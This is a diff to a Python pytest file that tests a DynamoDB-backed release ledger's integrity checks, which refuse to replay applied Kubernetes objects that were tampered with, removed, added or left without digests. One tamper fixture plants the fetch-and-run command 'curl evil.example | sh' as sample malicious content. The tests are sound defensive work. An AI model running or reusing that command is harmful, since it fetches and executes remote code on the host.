@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import zlib
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from typing import Any
@@ -9,7 +11,7 @@ from typing import Any
 import boto3
 import pytest
 from controlplane import platform
-from controlplane.aws.ledger import Ledger, LedgerConflictError, ReleaseNotFoundError
+from controlplane.aws.ledger import Ledger, LedgerConflictError, LedgerIntegrityError, ReleaseNotFoundError
 from controlplane.models.release import ReleaseRecord, ReleaseRef, ReleaseStatus, Trigger, TriggerKind
 from moto import mock_aws
 
@@ -88,7 +90,73 @@ def test_applied_objects_round_trip_in_apply_order(ledger: Ledger) -> None:
     ledger.record_applied("rel-x", objects)
     ledger.record_applied("rel-x", objects)  # a retried apply overwrites, never duplicates
     assert ledger.applied_objects("rel-x") == objects
-    assert len(items(ledger)) == 60
+    assert len(items(ledger)) == 61  # the objects and their digests
+
+
+def _configmaps(n: int) -> list[dict[str, Any]]:
+    return [
+        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"cm-{i}", "namespace": "ns"}, "data": {}}
+        for i in range(n)
+    ]
+
+
+def _put_object(sk: str, obj: dict[str, Any]) -> None:
+    boto3.client("dynamodb", region_name="us-east-1").put_item(
+        TableName=TABLE,
+        Item={
+            "pk": {"S": "RELEASE#rel-x"},
+            "sk": {"S": sk},
+            "kind": {"S": "applied_object"},
+            "manifest": {"B": zlib.compress(json.dumps(obj).encode())},
+        },
+    )
+
+
+def _tamper(ledger: Ledger) -> None:
+    """Someone with write access to the table swaps an object for a privileged one."""
+    evil = {**_configmaps(2)[1], "data": {"payload": "curl evil.example | sh"}}
+    _put_object("OBJECT#00001#ConfigMap#ns#cm-1", evil)
+
+
+def _drop(ledger: Ledger) -> None:
+    boto3.client("dynamodb", region_name="us-east-1").delete_item(
+        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECT#00001#ConfigMap#ns#cm-1"}}
+    )
+
+
+def _add(ledger: Ledger) -> None:
+    _put_object("OBJECT#00002#ConfigMap#ns#cm-2", _configmaps(3)[2])
+
+
+def _forget_digests(ledger: Ledger) -> None:
+    boto3.client("dynamodb", region_name="us-east-1").delete_item(
+        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECTS_DIGEST"}}
+    )
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        (_tamper, "OBJECT#00001#ConfigMap#ns#cm-1: sha256 mismatch (recorded sha256:"),
+        (_drop, "OBJECT#00001#ConfigMap#ns#cm-1: recorded but missing"),
+        (_add, "OBJECT#00002#ConfigMap#ns#cm-2: not recorded with the release"),
+        (_forget_digests, "holds 2 applied object(s) but no digests for them"),
+    ],
+    ids=["changed", "removed", "added", "digests-missing"],
+)
+def test_replayed_objects_that_do_not_match_their_recorded_digests_are_refused(
+    ledger: Ledger, change: Any, expected: str
+) -> None:
+    ledger.record_applied("rel-x", _configmaps(2))
+    change(ledger)
+    with pytest.raises(LedgerIntegrityError) as caught:
+        ledger.applied_objects("rel-x")
+    assert "release rel-x" in str(caught.value)
+    assert expected in str(caught.value)
+
+
+def test_a_release_without_recorded_objects_replays_nothing(ledger: Ledger) -> None:
+    assert ledger.applied_objects("rel-never-applied") == []
 
 
 def test_promote_moves_the_pointer_conditionally_and_is_idempotent(ledger: Ledger) -> None:
